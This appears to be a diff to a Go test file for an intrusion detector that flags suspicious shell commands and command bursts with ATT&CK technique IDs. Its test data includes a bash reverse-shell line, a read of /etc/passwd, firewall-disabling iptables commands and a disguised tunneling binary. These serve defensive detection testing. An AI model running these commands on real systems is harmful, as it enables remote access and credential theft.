@@ -33,6 +33,9 @@ func TestCommandsOfIntrudersAreFoundAndOrdinaryOnesAreNot(t *testing.T) {
 	}
 	f("iptables -A INPUT -p tcp --dport 9998 -j ACCEPT", "high T1562.004,T1571")
 	f("iptables-save", "")
+	f("/tmp/.svc/kworkerd -D 9090 -p 443 192.0.2.77", "high T1090,T1572")
+	f("docker run -d -p 443 192.0.2.77", "")
+	f("nmcli -f 80 -p 22 router", "")
 	f("iptables -L", "")
 	f("/sbin/iptables -F", "high T1562.004")
 	f(`bash -c "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"`, "critical T1059.004,T1095")
@@ -71,6 +74,21 @@ func TestABurstNeedsDifferentCommandsAndAServiceMakesItGrave(t *testing.T) {
 	commands := []string{"sh -c id", "sh -c 'uname -a; cat /etc/passwd'", "netstat -antp", "ps aux"}
 	f("a service", finding.High, summarytest.Run(Detector(), burst("tomcat", commands...)))
 	f("an administrator", finding.Medium, summarytest.Run(Detector(), burst("admin", commands...)))
+	unattended, byServer := burst("uid 1001", commands...), burst("", commands...)
+	daily := append([]activity.Activity{}, unattended...)
+	for i := range unattended {
+		unattended[i].Process.Unattended = true
+	}
+	byServer[1].Process.ParentImage = "/usr/lib/jvm/java-8/bin/java"
+	f("outside of any session", finding.High, summarytest.Run(Detector(), unattended))
+	f("started by a web server", finding.High, summarytest.Run(Detector(), byServer))
+	for day := range 2 {
+		for _, a := range unattended {
+			a.Time += int64(day+1) * int64(24*time.Hour)
+			daily = append(daily, a)
+		}
+	}
+	f("on three days", finding.Low, summarytest.Run(Detector(), daily)[:1])
 	f("one command over and over", finding.Informational, summarytest.Run(Detector(), burst("tomcat", "ps aux", "ps aux", "ps ax", "ps -ef", "ps")))
 }
 
